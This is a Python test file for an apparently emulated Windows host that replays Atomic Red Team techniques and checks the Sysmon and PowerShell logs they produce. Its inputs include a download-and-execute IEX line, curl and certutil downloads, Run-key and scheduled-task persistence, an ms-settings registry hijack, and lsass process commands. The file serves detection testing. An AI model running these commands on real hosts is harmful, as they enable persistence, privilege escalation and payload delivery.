"""Building blocks of upstream atomics on the emulated host: stock-but-unmodelled is inconclusive,
genuinely absent is "not recognized", and modelled blocks log what a real host logs."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from harness.emulated.coverage import count_blocks, measure, normalise_block, unmodelled_in, windows_tests
from harness.emulated.host import EmulatedHost, HostSettings
from harness.emulated.stock import load_stock
from harness.execution.executors import new_run_marker, render_command_line
from harness.model import ExecutorName
from harness.telemetry.event import POWERSHELL_OPERATIONAL, SYSMON

NOTE = re.compile(r"atomiclab-emulated: '(.+?)' is not modelled")


@pytest.fixture
def host() -> EmulatedHost:
    return EmulatedHost()


def cmd(host: EmulatedHost, text: str) -> tuple[int | None, str, str]:
    r = host.execute('"cmd.exe" /c ' + text)
    return r.exit_code, r.stdout, r.stderr


def ps(host: EmulatedHost, script: str) -> tuple[int | None, str, str]:
    r = host.execute('"powershell.exe" & {' + script.replace('"', '\\""') + "}")
    return r.exit_code, r.stdout, r.stderr


def sysmon(host: EmulatedHost, eid: int) -> list[dict[str, str]]:
    out = []
    for e in host.eventlog.events(SYSMON):
        if e.record.event_id == eid:
            out.append(dict(e.record.data))
    return out


def field_names(host: EmulatedHost, eid: int) -> list[list[str]]:
    return [[k for k, _ in e.record.data] for e in host.eventlog.events(SYSMON) if e.record.event_id == eid]


# ------------------------------------------------------------------------------ stock catalogue


def test_stock_programs_are_not_modelled_not_missing(host: EmulatedHost) -> None:
    for name in ("wmic process list brief", "schtasks /query", "rundll32.exe x.dll,Go", "vssadmin list shadows"):
        code, _, err = cmd(host, name)
        assert code == 0 and "is not recognized" not in err and NOTE.search(err), name
    code, _, err = cmd(host, "nosuchtool.exe /x")
    assert code == 9009 and "'nosuchtool.exe' is not recognized as an internal or external command" in err
    # The process of a stock program is created and logged, like on a real host.
    images = [d["Image"] for d in sysmon(host, 1)]
    assert "C:\\Windows\\System32\\wbem\\WMIC.exe" in images and "C:\\Windows\\System32\\rundll32.exe" in images


def test_stock_cmdlets_and_aliases(host: EmulatedHost) -> None:
    code, _, err = ps(host, "Get-LocalUser; gwmi Win32_Process")
    assert code == 0 and NOTE.findall(err) == ["Get-LocalUser", "Get-WmiObject"]
    # A stock alias wins over a program of the same name (about_Command_Precedence): sort is Sort-Object.
    code, _, err = ps(host, "'b','a' | sort")
    assert code == 0 and NOTE.findall(err) == ["Sort-Object"]
    assert not [d for d in sysmon(host, 1) if d["Image"].lower().endswith("sort.exe")]


def test_catalogue_cites_sources_and_knows_aliases() -> None:
    stock = load_stock()
    text = (Path(__file__).parents[1] / "harness/emulated/stock/windows_server_2022.yaml").read_text(encoding="utf-8")
    assert "learn.microsoft.com/en-us/powershell/module" in text
    assert stock.is_cmdlet("Get-ScheduledTask") and not stock.is_cmdlet("Get-ADUser")  # RSAT is not stock
    assert stock.alias_target("iex") == "Invoke-Expression" and stock.alias_target("sc") == "Set-Content"
    assert stock.is_program("schtasks") and stock.is_program("WMIC.exe") and not stock.is_program("mimikatz")


# ----------------------------------------------------------------------------------- PowerShell


def test_invoke_expression_runs_the_text_and_logs_it(host: EmulatedHost) -> None:
    code, out, err = ps(host, "$c = 'Write-Output ' + 42; iex $c; Invoke-Expression -Command \"hostname\"")
    assert code == 0 and err == "" and out == "42\r\nWIN-ATOMICLAB1\r\n"
    blocks = [dict(e.record.data)["ScriptBlockText"] for e in host.eventlog.events(POWERSHELL_OPERATIONAL)]
    assert "Write-Output 42" in blocks and "hostname" in blocks


def test_web_requests_fail_as_without_internet(host: EmulatedHost) -> None:
    code, _, err = ps(host, "Invoke-WebRequest -Uri https://github.com/x/y.zip -OutFile $env:TEMP\\y.zip")
    assert code == 1 and err.startswith("Invoke-WebRequest : The remote name could not be resolved: 'github.com'")
    assert "(System.Net.HttpWebRequest:HttpWebRequest) [Invoke-WebRequest], WebException" in err
    assert "WebCmdletWebResponseException,Microsoft.PowerShell.Commands.InvokeWebRequestCommand" in err
    code, _, err = ps(host, "IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/a')")
    assert code == 1 and (
        'Exception calling "DownloadString" with "1" argument(s): '
        "\"The remote name could not be resolved: 'raw.githubusercontent.com'\"" in err
    )


def test_static_tls_setting_and_unsupported_syntax(host: EmulatedHost) -> None:
    code, out, err = ps(host, "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12; "
                              "[Net.ServicePointManager]::SecurityProtocol")  # fmt: skip
    assert code == 0 and out == "Tls12\r\n" and err == ""
    marker = new_run_marker()
    host.execute(render_command_line(ExecutorName.POWERSHELL, "trap { 'x' }; 1", marker=marker))
    assert next(s.what for s in host.not_modelled_under(marker)).startswith("PowerShell syntax")


def test_new_item_copy_item_and_start_process(host: EmulatedHost) -> None:
    code, out, err = ps(host, "New-Item -ItemType Directory -Path C:\\Temp\\a\\b | Out-Null; "
                              "New-Item -Path C:\\Temp\\a\\b\\x.txt -Value hello; Copy-Item C:\\Temp\\a\\b\\x.txt C:\\Temp")  # fmt: skip
    assert code == 0 and err == ""
    assert "    Directory: C:\\Temp\\a\\b" in out and "Mode                LastWriteTime         Length Name" in out
    assert host.fs.read("C:\\Temp\\x.txt") == b"hello"
    # (without PowerShell's own __PSScriptPolicyTest_ probe files, written at every engine start)
    created = [d["TargetFilename"] for d in sysmon(host, 11) if "__PSScriptPolicyTest_" not in d["TargetFilename"]]
    assert created == ["C:\\Temp\\a\\b\\x.txt", "C:\\Temp\\x.txt"]
    code, _, err = ps(host, "Start-Process notepad.exe; Start-Process C:\\nope\\x.exe")
    assert code == 1 and "This command cannot be run due to the error: The system cannot find the file specified." in err
    notepad = [d for d in sysmon(host, 1) if d["Image"].endswith("notepad.exe")]
    assert len(notepad) == 1 and notepad[0]["ParentImage"].endswith("powershell.exe")
    assert notepad[0]["CommandLine"] == '"C:\\Windows\\System32\\notepad.exe"'


# ------------------------------------------------------------------------------------- registry


def test_reg_exe_add_query_delete_with_sysmon_12_13(host: EmulatedHost) -> None:
    run_key = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    code, out, _ = cmd(host, f'reg add {run_key} /v Atomic /t REG_SZ /d "C:\\x.exe" /f')
    assert code == 0 and out == "The operation completed successfully.\r\n\r\n"
    code, out, _ = cmd(host, f"reg query {run_key} /v Atomic")
    assert code == 0 and "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" in out
    assert "    Atomic    REG_SZ    C:\\x.exe" in out
    code, out, _ = cmd(host, "reg add HKLM\\SOFTWARE\\AtomicLab /v N /t REG_DWORD /d 3 /f")
    assert code == 0
    code, _, _ = cmd(host, f"reg delete {run_key} /v Atomic /f")
    assert code == 0
    code, _, err = cmd(host, f"reg query {run_key} /v Atomic")  # the Run key is stock: other values may exist
    assert code == 0 and NOTE.search(err)
    code, _, err = cmd(host, "reg query HKLM\\SOFTWARE\\AtomicLab /v Missing")  # created here: known complete
    assert code == 1 and err == "ERROR: The system was unable to find the specified registry key or value.\r\n"
    sid = host.account("atomiclab").sid
    sets = sysmon(host, 13)
    assert [(d["EventType"], d["TargetObject"], d["Details"]) for d in sets] == [
        ("SetValue", f"HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Atomic", "C:\\x.exe"),
        ("SetValue", "HKLM\\SOFTWARE\\AtomicLab\\N", "DWORD (0x00000003)"),
    ]
    assert all(d["Image"] == "C:\\Windows\\System32\\reg.exe" for d in sets)
    # Field order of a real recording (evtx-attack-samples PanacheSysmon_vs_AtomicRedTeam01.evtx) + User.
    assert field_names(host, 13)[0] == [
        "RuleName", "EventType", "UtcTime", "ProcessGuid", "ProcessId", "Image", "TargetObject", "Details", "User",
    ]  # fmt: skip
    deletes = [d for d in sysmon(host, 12) if d["EventType"] == "DeleteValue"]
    assert [d["TargetObject"] for d in deletes] == [
        f"HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Atomic"
    ]


def test_registry_cmdlets_and_unknown_keys(host: EmulatedHost) -> None:
    key = "HKCU:\\Software\\Classes\\ms-settings\\shell\\open\\command"
    code, out, err = ps(host, f'New-Item "{key}" -Force | Out-Null; '
                              f'New-ItemProperty -Path "{key}" -Name "DelegateExecute" -Value "" -Force | Out-Null; '
                              f'Set-ItemProperty -Path "{key}" -Name "(default)" -Value "cmd.exe" -Force; '
                              f'(Get-ItemProperty -Path "{key}" -Name DelegateExecute).PSChildName; '
                              f'Remove-Item "HKCU:\\Software\\Classes\\ms-settings" -Recurse -Force; Test-Path "{key}"')  # fmt: skip
    assert code == 0 and err == "" and out == "command\r\nFalse\r\n"
    kinds = [d["EventType"] for d in sysmon(host, 12) + sysmon(host, 13)]
    assert kinds.count("CreateKey") == 4 and kinds.count("DeleteKey") == 4 and kinds.count("SetValue") == 2
    # A key the model does not know is never reported absent: the step is not modelled.
    code, _, err = ps(host, "Set-ItemProperty -Path HKLM:\\SOFTWARE\\Vendor\\Thing -Name X -Value 1")
    assert code == 0 and NOTE.search(err) and "Cannot find path" not in err


def test_registry_events_follow_the_sysmon_config() -> None:
    quiet = EmulatedHost(HostSettings(sysmon_registry=False))
    assert cmd(quiet, "reg add HKLM\\SOFTWARE\\AtomicLab /v N /t REG_DWORD /d 3 /f")[0] == 0
    assert sysmon(quiet, 13) == [] and sysmon(quiet, 12) == []
    # the degraded state takes RegistryEvent out of the applied config (an empty include)
    assert not quiet.sysmon_rules.logs_type(13) and not quiet.sysmon_rules.logs_type(12)


# ------------------------------------------------------------------------------------- counting


def test_unmodelled_signal_and_block_names() -> None:
    err = (
        "atomiclab-emulated: 'net user /add x' is not modelled; no effect\r\n"
        "'wmic' is not recognized as an internal or external command,\r\noperable program or batch file.\r\n"
        "'payload.exe' is not recognized as an internal or external command,\r\n"
    )
    assert unmodelled_in(err) == ["not recognized: wmic", "net user"]
    assert normalise_block("reg add HKCU\\x /f") == "reg add" and normalise_block("Get-LocalUser") == "Get-LocalUser"
    stock = load_stock()
    c = count_blocks(ExecutorName.POWERSHELL, "iex (iwr https://x); Set-ItemProperty HKCU:\\x -Name a -Value 1", stock)
    assert c[("alias", "iex")] == 1 and c[("alias", "iwr")] == 1 and c[("registry", "set-itemproperty")] == 1
    c = count_blocks(ExecutorName.COMMAND_PROMPT, "reg add HKCU\\x /f & copy a b & schtasks.exe /create", stock)
    assert c[("program", "reg")] == 1 and c[("registry", "reg add")] == 1 and c[("program", "schtasks")] == 1


def test_measure_over_an_atomics_folder(tmp_path: Path) -> None:
    tech = tmp_path / "T9999"
    tech.mkdir()
    (tech / "T9999.yaml").write_text(
        "attack_technique: T9999\ndisplay_name: Demo\natomic_tests:\n"
        "- name: modelled\n  auto_generated_guid: 11111111-1111-1111-1111-111111111111\n  description: d\n"
        "  supported_platforms: [windows]\n  executor:\n    name: command_prompt\n"
        "    command: reg add HKCU\\Software\\AtomicLab /v #{v} /d 1 /f\n"
        "    cleanup_command: reg delete HKCU\\Software\\AtomicLab /f\n"
        "  input_arguments:\n    v:\n      description: value\n      type: string\n      default: Demo\n"
        "- name: unmodelled\n  auto_generated_guid: 22222222-2222-2222-2222-222222222222\n  description: d\n"
        "  supported_platforms: [windows]\n  executor:\n    name: powershell\n    command: Get-LocalUser\n",
        encoding="utf-8",
    )
    tests, problems = windows_tests(tmp_path)
    assert [t.name for t in tests] == ["modelled", "unmodelled"] and problems == []
    m = measure(tests, workers=2, timeout_s=10)
    assert m.share("command") == (1, 2) and m.share("cleanup") == (1, 1)
    assert m.unmodelled(["command"]) == {"Get-LocalUser": 1}
    doc = m.to_json()
    assert doc["share"]["command"] == {"fully_modelled": 1, "tests": 2}  # type: ignore[index]


# ------------------------------------------------------------------------------ program models


def test_downloads_fail_as_without_internet(host: EmulatedHost) -> None:
    code, _, err = cmd(host, "curl.exe -k https://github.com/a/b.dll -o C:\\Users\\Public\\b.dll")
    assert code == 6 and err == "curl: (6) Could not resolve host: github.com\r\n"
    assert cmd(host, "curl -s -m3 www.google.com")[0:3:2] == (6, "")  # -s silences the message
    code, out, _ = cmd(host, "certutil -urlcache -split -f https://raw.githubusercontent.com/x/LICENSE.txt l.txt")
    assert code == 0x80072EE7 and "WinHttp: 12007 ERROR_WINHTTP_NAME_NOT_RESOLVED" in out
    assert not host.fs.exists("C:\\Users\\Public\\b.dll")


def test_certutil_encode_decode_round_trip(host: EmulatedHost) -> None:
    code, out, _ = cmd(host, "certutil -encode C:\\Windows\\System32\\calc.exe %TEMP%\\c.txt && "
                             "certutil -decode %TEMP%\\c.txt %TEMP%\\c.exe")  # fmt: skip
    assert code == 0 and out.count("command completed successfully.") == 2
    temp = "C:\\Users\\atomiclab\\AppData\\Local\\Temp"
    assert host.fs.read(f"{temp}\\c.txt").startswith(b"-----BEGIN CERTIFICATE-----\r\n")
    assert host.fs.read(f"{temp}\\c.exe") == host.fs.read("C:\\Windows\\System32\\calc.exe")
    created = [d["TargetFilename"] for d in sysmon(host, 11) if "__PSScriptPolicyTest_" not in d["TargetFilename"]]
    assert created == [f"{temp}\\c.txt", f"{temp}\\c.exe"]


def test_wmic_process_call_create_runs_under_wmiprvse(host: EmulatedHost) -> None:
    code, out, _ = cmd(host, 'wmic /node:"localhost" process call create "notepad.exe C:\\x.txt"')
    assert code == 0 and "Executing (Win32_Process)->Create()" in out and "ReturnValue = 0;" in out
    child = next(d for d in sysmon(host, 1) if d["Image"].endswith("notepad.exe"))
    assert child["ParentImage"] == "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"
    assert child["CommandLine"] == "notepad.exe C:\\x.txt" and child["User"].endswith("\\atomiclab")
    assert f"ProcessId = {child['ProcessId']};" in out
    code, _, err = cmd(host, "wmic /user:DOMAIN\\a /password:p /node:127.0.0.1 process call create notepad.exe")
    assert code == 0x80041064 and "User credentials cannot be used for local connections" in err


def test_schtasks_create_delete_and_netsh_portproxy(host: EmulatedHost) -> None:
    code, out, _ = cmd(host, 'schtasks /create /tn "T1053" /sc onlogon /tr "cmd.exe /c calc.exe" /f')
    assert code == 0 and out == 'SUCCESS: The scheduled task "T1053" has successfully been created.\r\n'
    task = next(d for d in sysmon(host, 11) if d["TargetFilename"] == "C:\\Windows\\System32\\Tasks\\T1053")
    assert task["Image"] == "C:\\Windows\\System32\\svchost.exe" and task["User"] == "NT AUTHORITY\\SYSTEM"
    code, out, _ = cmd(host, "schtasks /delete /tn T1053 /f")
    assert code == 0 and out == 'SUCCESS: The scheduled task "T1053" was successfully deleted.\r\n'
    code, _, err = cmd(host, "schtasks /delete /tn T1053 /f")
    assert code == 1 and err == "ERROR: The system cannot find the file specified.\r\n"
    assert cmd(host, "netsh interface portproxy add v4tov4 listenport=1337 connectport=22 connectaddress=127.0.0.1")[0] == 0
    value = sysmon(host, 13)[-1]
    assert value["TargetObject"] == "HKLM\\SYSTEM\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\*/1337"
    assert value["Details"] == "127.0.0.1/22" and value["Image"] == "C:\\Windows\\System32\\netsh.exe"


def test_cmd_copy_and_stop_process(host: EmulatedHost) -> None:
    cmd(host, "echo hi> %TEMP%\\a.txt")
    code, out, _ = cmd(host, "copy %TEMP%\\a.txt C:\\Users\\Public")
    assert code == 0 and out == "        1 file(s) copied.\r\n" and host.fs.read("C:\\Users\\Public\\a.txt") == b"hi\r\n"
    code, out, err = cmd(host, "copy C:\\nope.txt C:\\Users\\Public")
    assert code == 1 and err == "The system cannot find the file specified.\r\n" and "0 file(s) copied" in out
    code, _, err = ps(host, 'Stop-Process -Name "DirLister"')
    assert code == 1 and 'Cannot find a process with the name "DirLister".' in err
    assert ps(host, 'Stop-Process -Name "DirLister" -ErrorAction Ignore')[0:3:2] == (1, "")
    code, _, err = ps(host, "Stop-Process -Name lsass -Force")  # always running on Windows: not modelled
    assert code == 0 and NOTE.search(err)


def test_functions_do_loops_and_here_strings(host: EmulatedHost) -> None:
    script = (
        "function Add-Two {\n  param([Parameter(Mandatory=$true)][int]$a, $b = 2, [switch]$Loud)\n"
        "  if ($Loud) { 'loud' }\n  return $a + $b\n  'never'\n}\n"
        "function Plain($x) { \"x=$x $args\" }\nAdd-Two 1\nAdd-Two -a 5 -b 10 -Loud\nPlain 7 8 9\n"
        "$i = 0\ndo { $i++ } while ($i -lt 3)\n$i\n"
        "$t = @\"\nvalue $i \"quoted\"\n\"@\n$t\n$u = @'\nliteral $i\n'@\n$u"
    )
    code, out, err = ps(host, script)
    assert err == "" and code == 0
    assert out.split("\r\n")[:-1] == ["3", "loud", "15", "x=7 8 9", "3", 'value 3 "quoted"', "literal $i"]


def test_dotnet_statics_and_operators(host: EmulatedHost) -> None:
    script = (
        "$b = [System.Text.Encoding]::Unicode.GetBytes('hi'); [Convert]::ToBase64String($b)\n"
        "[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk='))\n"
        "[Security.Principal.WindowsIdentity]::GetCurrent().Name\n"
        "-join [char[]](112,111)\n[string]::IsNullOrEmpty('')\n"
        "[Environment]::SetEnvironmentVariable('AtomicX', 'C:\\x.exe', 'User')\n"
        "[System.IO.File]::WriteAllBytes(\"$env:TEMP\\b.bin\", [byte[]](1,2)); [System.IO.File]::ReadAllBytes(\"$env:TEMP\\b.bin\").Count"
    )
    code, out, err = ps(host, script)
    assert code == 0 and err == ""
    assert out.split("\r\n")[:-1] == ["aABpAA==", "hi", "WIN-ATOMICLAB1\\atomiclab", "po", "True", "2"]
    sid = host.account("atomiclab").sid
    env = [d for d in sysmon(host, 13) if d["TargetObject"].endswith("\\Environment\\AtomicX")]
    assert env and env[0]["TargetObject"] == f"HKU\\{sid}\\Environment\\AtomicX" and env[0]["Details"] == "C:\\x.exe"


def test_get_childitem_attrib_and_local_web_request(host: EmulatedHost) -> None:
    cmd(host, "echo x> %TEMP%\\t.txt")
    code, out, err = ps(host, "(Get-ChildItem \"$env:TEMP\\t.txt\").Name; (Get-ChildItem Env:USERNAME).Value; "
                              "Get-ChildItem $env:TEMP\\nope.txt")  # fmt: skip
    assert out == "t.txt\r\natomiclab\r\n" and code == 1 and "Cannot find path" in err and "nope.txt" in err
    code, _, err = ps(host, "Get-ChildItem C:\\Windows")  # a listing the emulated file system cannot vouch for
    assert code == 0 and NOTE.search(err)
    assert cmd(host, "attrib.exe +h %TEMP%\\t.txt") == (0, "", "")
    code, _, err = ps(host, "Invoke-WebRequest -Uri 127.0.0.1 -Method POST -Body x")
    assert code == 1 and err.startswith("Invoke-WebRequest : Unable to connect to the remote server")


def test_sc_create_delete_with_the_scm_registry_writes(host: EmulatedHost) -> None:
    code, out, _ = cmd(host, "sc.exe create AtomicTestService binPath= C:\\AtomicRedTeam\\x.exe start= auto")
    assert code == 0 and out == "[SC] CreateService SUCCESS\r\n"
    assert cmd(host, "sc create AtomicTestService binPath= C:\\x.exe")[0] == 1073
    assert cmd(host, "sc stop AtomicTestService")[0] == 1062
    assert cmd(host, "sc delete AtomicTestService")[:2] == (0, "[SC] DeleteService SUCCESS\r\n")
    code, out, _ = cmd(host, "sc delete AtomicTestService")
    assert code == 1060 and "does not exist as an installed service" in out
    sets = [(d["Image"], d["TargetObject"].rsplit("\\", 1)[1], d["Details"]) for d in sysmon(host, 13)]
    scm = "C:\\Windows\\System32\\services.exe"
    # As recorded (PanacheSysmon_vs_AtomicRedTeam01.evtx): services.exe sets Start and ImagePath, Start=4 on delete.
    assert (scm, "Start", "DWORD (0x00000002)") in sets and (scm, "ImagePath", "C:\\AtomicRedTeam\\x.exe") in sets
    assert sets[-1] == (scm, "Start", "DWORD (0x00000004)")
    code, _, err = cmd(host, "sc delete WinRM")  # a stock service: not modelled, never deleted
    assert code == 0 and NOTE.search(err)


def test_get_process_of_a_process_that_cannot_exist(host: EmulatedHost) -> None:
    code, out, err = ps(host, "if (Get-Process -Name WebBrowserPassView -ErrorAction SilentlyContinue) { 'yes' } else { 'no' }")
    assert code == 0 and out == "no\r\n" and err == ""
    code, _, err = ps(host, "Get-Process mimikatz")
    assert code == 1 and "Cannot find a process with the name \"mimikatz\"" in err
    assert "NoProcessFoundForGivenName,Microsoft.PowerShell.Commands.GetProcessCommand" in err
    code, _, err = ps(host, "Get-Process lsass")  # always running on Windows
    assert code == 0 and NOTE.search(err)


def test_credentials_in_memory(host: EmulatedHost) -> None:
    script = (
        "$pw = ConvertTo-SecureString 'P@ssw0rd1' -AsPlainText -Force\n"
        "$cred = New-Object System.Management.Automation.PSCredential ('DOMAIN\\user', $pw)\n"
        "$cred.UserName; $cred.GetNetworkCredential().Password; $cred.GetNetworkCredential().Domain"
    )
    code, out, err = ps(host, script)
    assert code == 0 and err == "" and out == "DOMAIN\\user\r\nP@ssw0rd1\r\nDOMAIN\r\n"
